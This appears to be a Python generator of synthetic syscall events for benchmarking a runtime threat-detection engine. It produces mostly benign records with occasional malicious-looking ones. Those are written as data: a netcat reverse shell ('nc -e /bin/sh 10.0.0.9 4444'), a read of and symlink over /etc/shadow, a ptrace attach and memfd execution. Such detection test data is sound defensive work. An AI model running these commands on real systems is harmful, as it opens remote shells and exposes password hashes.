"""A realistic mix of field-map events for benchmarks: mostly benign, a few that match.

The mix follows what a busy Linux host does: process executions from shells,
package tools and daemons, file opens of libraries, /proc and configuration,
and outbound connections; about 1 event in 200 is malicious-looking (a shell
in a container, a read of /etc/shadow by an untrusted program, netcat with
-e, a symlink over /etc/passwd, a ptrace attach, memfd execution...).
Generation is seeded, so runs are comparable.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from typing import Any

HOST_PROCS = [
    ("bash", "sshd", "/usr/bin/bash", "-bash"),
    ("ls", "bash", "/usr/bin/ls", "--color=auto -la"),
    ("grep", "bash", "/usr/bin/grep", "-r foo ."),
    ("python3", "systemd", "/usr/bin/python3.11", "/usr/bin/unattended-upgrade"),
    ("cron", "systemd", "/usr/sbin/cron", "-f"),
    ("sh", "cron", "/usr/bin/dash", "-c run-parts /etc/cron.hourly"),
    ("git", "bash", "/usr/bin/git", "status"),
    ("node", "systemd", "/usr/bin/node", "server.js"),
    ("dpkg", "apt-get", "/usr/bin/dpkg", "--status-fd 23 --configure"),
    ("containerd-shim", "systemd", "/usr/bin/containerd-shim-runc-v2", "-namespace k8s.io"),
]
CONTAINER_PROCS = [
    ("nginx", "nginx", "/usr/sbin/nginx", "-g daemon off;"),
    ("java", "containerd-shim", "/opt/java/bin/java", "-jar app.jar"),
    ("python", "gunicorn", "/usr/local/bin/python", "-m app"),
    ("redis-server", "containerd-shim", "/usr/local/bin/redis-server", "*:6379"),
]
FILES = [
    "/usr/lib/x86_64-linux-gnu/libc.so.6",
    "/etc/ld.so.cache",
    "/proc/self/stat",
    "/etc/nsswitch.conf",
    "/usr/share/zoneinfo/UTC",
    "/var/log/nginx/access.log",
    "/tmp/cache.bin",
    "/etc/hosts",
    "/app/config.yaml",
    "/dev/null",
]
ADDRS = ["10.0.3.7:5432", "10.0.3.9:6379", "172.17.0.3:8080", "93.184.216.34:443"]


def _proc_fields(
    proc: tuple[str, str, str, str], container: bool, rnd: random.Random
) -> dict[str, Any]:
    name, parent, exe, args = proc
    cid = f"{rnd.getrandbits(48):012x}" if container else "host"
    return {
        "proc.name": name,
        "proc.exe": exe,
        "proc.exepath": exe,
        "proc.args": args,
        "proc.cmdline": f"{name} {args}",
        "proc.pname": parent,
        "proc.pcmdline": parent,
        "proc.pexe": "/usr/bin/" + parent,
        "proc.pexepath": "/usr/bin/" + parent,
        "proc.aname[1]": parent,
        "proc.aname[2]": "systemd",
        "proc.aname[3]": "<NA>",
        "proc.tty": 34816 if name == "bash" else 0,
        "proc.pid": rnd.randint(100, 60000),
        "proc.vpid": 1 if container else 0,
        "proc.cwd": "/root/",
        "user.name": "root",
        "user.uid": 0,
        "user.loginuid": -1,
        "user.loginname": "<NA>",
        "group.gid": 0,
        "group.name": "root",
        "container.id": cid,
        "container.name": "app" if container else "host",
        "container.image.repository": "docker.io/library/app" if container else "",
        "container.image.tag": "1.2",
        "container.privileged": False,
        "proc.is_exe_upper_layer": False,
        "proc.is_exe_from_memfd": False,
        "proc.sname": "bash",
        "proc.is_vpgid_leader": False,
        "proc.exe_ino.ctime": 1,
        "proc.exe_ino.mtime": 1,
        "evt.res": "SUCCESS",
        "evt.rawres": 0,
        "evt.failed": False,
        "k8s.ns.name": "default",
        "k8s.pod.name": "app-1",
        "thread.cap_effective": "",
        "thread.cap_permitted": "",
    }


def _benign(rnd: random.Random) -> dict[str, Any]:
    container = rnd.random() < 0.3
    proc = rnd.choice(CONTAINER_PROCS if container else HOST_PROCS)
    f = _proc_fields(proc, container, rnd)
    r = rnd.random()
    if r < 0.35:
        f["evt.type"] = rnd.choice(["execve", "execve", "execveat"])
        f["evt.arg.flags"] = ""
    elif r < 0.8:
        path = rnd.choice(FILES)
        f.update(
            {
                "evt.type": rnd.choice(["openat", "openat", "open", "openat2"]),
                "fd.name": path,
                "fd.nameraw": path,
                "fd.directory": path.rsplit("/", 1)[0] or "/",
                "fd.filename": path.rsplit("/", 1)[1],
                "fd.typechar": "f",
                "fd.num": 3,
                "fd.type": "file",
                "evt.is_open_read": True,
                "evt.is_open_write": False,
                "evt.arg.flags": "O_RDONLY|O_CLOEXEC",
                "evt.is_open_exec": False,
            }
        )
    else:
        addr = rnd.choice(ADDRS)
        ip, port = addr.split(":")
        f.update(
            {
                "evt.type": "connect",
                "fd.name": f"10.0.0.2:41234->{addr}",
                "fd.typechar": "4",
                "fd.type": "ipv4",
                "fd.num": 5,
                "fd.sip": ip,
                "fd.sport": int(port),
                "fd.rip": ip,
                "fd.rport": int(port),
                "fd.lport": 41234,
                "fd.l4proto": "tcp",
                "fd.sockfamily": "ip",
                "fd.connected": True,
                "evt.res": "EINPROGRESS",
                "evt.rawres": -115,
            }
        )
    return f


def _malicious(rnd: random.Random) -> dict[str, Any]:
    kind = rnd.randrange(6)
    if kind == 0:  # interactive shell in a container
        f = _proc_fields(("bash", "runc", "/bin/bash", "-i"), True, rnd)
        f.update({"evt.type": "execve", "proc.tty": 34816, "evt.arg.flags": ""})
    elif kind == 1:  # sensitive file read by an untrusted program
        f = _proc_fields(("cat", "bash", "/usr/bin/cat", "/etc/shadow"), False, rnd)
        f.update(
            {
                "evt.type": "openat",
                "fd.name": "/etc/shadow",
                "fd.directory": "/etc",
                "fd.filename": "shadow",
                "fd.typechar": "f",
                "fd.num": 3,
                "fd.type": "file",
                "evt.is_open_read": True,
                "evt.is_open_write": False,
                "evt.arg.flags": "O_RDONLY",
            }
        )
    elif kind == 2:  # netcat with -e in a container
        f = _proc_fields(("nc", "sh", "/usr/bin/nc", "-e /bin/sh 10.0.0.9 4444"), True, rnd)
        f.update({"evt.type": "execve", "evt.arg.flags": ""})
    elif kind == 3:  # symlink over a sensitive file
        f = _proc_fields(("ln", "bash", "/usr/bin/ln", "-s /etc/shadow /tmp/x"), False, rnd)
        f.update(
            {"evt.type": "symlinkat", "evt.arg.target": "/etc/shadow", "evt.arg.linkpath": "/tmp/x"}
        )
    elif kind == 4:  # ptrace attach
        f = _proc_fields(("gdb", "bash", "/usr/bin/gdb", "-p 1234"), False, rnd)
        f.update({"evt.type": "ptrace", "evt.arg.request": "PTRACE_ATTACH"})
    else:  # fileless execution
        f = _proc_fields(("x", "bash", "memfd:x", ""), True, rnd)
        f.update({"evt.type": "execve", "proc.is_exe_from_memfd": True, "evt.arg.flags": ""})
    return f


def events(n: int, seed: int = 7, malicious_every: int = 200) -> Iterator[dict[str, Any]]:
    """``n`` field-map event records ``{"source", "time", "fields"}``."""
    rnd = random.Random(seed)
    t0 = 1_700_000_000_000_000_000
    for i in range(n):
        fields = _malicious(rnd) if i % malicious_every == malicious_every - 1 else _benign(rnd)
        fields["evt.num"] = i + 1
        yield {"source": "syscall", "time": t0 + i * 1000, "fields": fields}
